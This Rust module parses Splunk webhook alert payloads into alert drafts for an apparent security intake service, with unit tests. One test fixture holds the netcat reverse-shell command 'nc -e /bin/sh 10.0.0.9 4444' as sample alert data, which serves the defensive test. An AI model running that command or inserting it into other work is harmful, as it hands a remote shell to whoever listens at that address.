//! Splunk's webhook alert action: `{"result": {...}, "sid", "search_name", "results_link", ...}`.
//! One POST per result (or per search, carrying its first result). The alert's id is the
//! search job id plus a hash of the result, so each result of one job is its own alert.

use super::fields::{self, first_text, gather_context, lookup, truncate};
use super::{Draft, Entry, ParseContext};
use crate::intake::rejection::{Problem, Rejection};
use serde_json::Value;
use sha2::{Digest, Sha256};

pub fn parse(body: &Value, ctx: &ParseContext<'_>) -> Result<Vec<Entry>, Rejection> {
    let mapping = &ctx.sources.splunk;
    let mut problems = Vec::new();
    let result = match body.get("result") {
        Some(Value::Object(_)) => body.get("result"),
        Some(other) => {
            problems.push(Problem::new(
                "result",
                format!("must be an object, not {}", fields::type_name(other)),
            ));
            None
        }
        None => {
            problems.push(Problem::new(
                "result",
                "is required (Splunk's webhook alert action sends it)",
            ));
            None
        }
    };
    let sid = required_text(body, "sid", &mut problems);
    let search_name = required_text(body, "search_name", &mut problems);
    let (Some(result), Some(sid), Some(search_name)) = (result, sid, search_name) else {
        return Err(Rejection::invalid(problems));
    };
    let result_hash = hex::encode(&Sha256::digest(result.to_string().as_bytes())[..8]);
    let title = first_text(result, &["title".into(), "signature".into()])
        .unwrap_or_else(|| search_name.clone());
    let draft = Draft {
        source: "splunk".into(),
        source_id: Some(truncate(&format!("{sid}:{result_hash}"), fields::MAX_ID)),
        rule: truncate(&search_name, fields::MAX_RULE),
        user: mapping.user(result),
        title: truncate(&title, fields::MAX_TITLE),
        description: truncate(
            &first_text(result, &["description".into()]).unwrap_or_default(),
            fields::MAX_DESCRIPTION,
        ),
        severity: mapping.severity(result),
        occurred_at: lookup(result, "_time")
            .and_then(fields::parse_time)
            .unwrap_or(ctx.now),
        context: gather_context(result, &mapping.context_fields),
        link: body
            .get("results_link")
            .and_then(Value::as_str)
            .filter(|l| fields::is_web_link(l))
            .map(|l| truncate(l, fields::MAX_LINK)),
        raw: body.to_string(),
    };
    Ok(vec![Entry::Alert(Box::new(draft))])
}

pub(super) fn required_text(
    body: &Value,
    field: &str,
    problems: &mut Vec<Problem>,
) -> Option<String> {
    match body
        .get(field)
        .and_then(fields::as_text)
        .map(|s| s.trim().to_string())
    {
        Some(text) if !text.is_empty() => Some(text),
        _ => {
            problems.push(Problem::new(
                field,
                "is required and must be a non-empty string",
            ));
            None
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::intake::formats::mapping::SourceMappings;
    use chrono::{TimeZone, Utc};
    use serde_json::json;

    fn draft(body: Value) -> Result<Draft, Rejection> {
        let sources = SourceMappings::default();
        let ctx = ParseContext {
            now: Utc::now(),
            sources: &sources,
            max_batch: 10,
        };
        parse(&body, &ctx).map(|mut e| match e.remove(0) {
            Entry::Alert(d) => *d,
            Entry::Ignored { .. } => unreachable!(),
        })
    }

    #[test]
    fn reads_the_webhook_action_body() {
        let d = draft(json!({
            "sid": "scheduler__admin__search__RMD5_at_1700000000_1", "search_name": "Root shell via sudo",
            "results_link": "https://splunk.example.com:8000/app/search/@go?sid=x", "owner": "admin", "app": "search",
            "result": {"user": "alice", "host": "build-01", "command": "sudo -i", "_time": "1800000000", "severity": "critical", "count": ["1", "2"]}
        }))
        .unwrap();
        assert_eq!(d.rule, "Root shell via sudo");
        assert_eq!(d.user.as_deref(), Some("alice"));
        assert_eq!(d.context["host"], "build-01");
        assert_eq!(d.context["command"], "sudo -i");
        assert_eq!(d.occurred_at, Utc.timestamp_opt(1_800_000_000, 0).unwrap());
        assert!(
            d.source_id
                .unwrap()
                .starts_with("scheduler__admin__search__RMD5_at_1700000000_1:")
        );
        assert!(d.link.is_some());
    }

    #[test]
    fn the_common_command_line_fields_all_show_as_command() {
        for field in ["process", "cmdline", "CommandLine", "process_command_line"] {
            let d = draft(json!({"sid": "1", "search_name": "x",
                "result": {"user": "alice", field: "nc -e /bin/sh 10.0.0.9 4444", "process_name": "nc"}}))
            .unwrap();
            assert_eq!(
                d.context["command"], "nc -e /bin/sh 10.0.0.9 4444",
                "{field}"
            );
            assert_eq!(d.context["process_name"], "nc");
        }
        let both = draft(json!({"sid": "1", "search_name": "x",
            "result": {"command": "sudo -i", "CommandLine": "other"}}))
        .unwrap();
        assert_eq!(
            both.context["command"], "sudo -i",
            "the first spelling wins"
        );
    }

    #[test]
    fn missing_parts_are_named() {
        let err = draft(json!({"result": [], "search_name": ""})).unwrap_err();
        let fields: Vec<_> = err.problems.iter().map(|p| p.field.as_str()).collect();
        assert_eq!(fields, ["result", "sid", "search_name"]);
    }

    #[test]
    fn a_result_without_a_user_is_still_an_alert() {
        let d = draft(json!({"sid": "1", "search_name": "x", "result": {"host": "h"}})).unwrap();
        assert_eq!(d.user, None);
    }
}
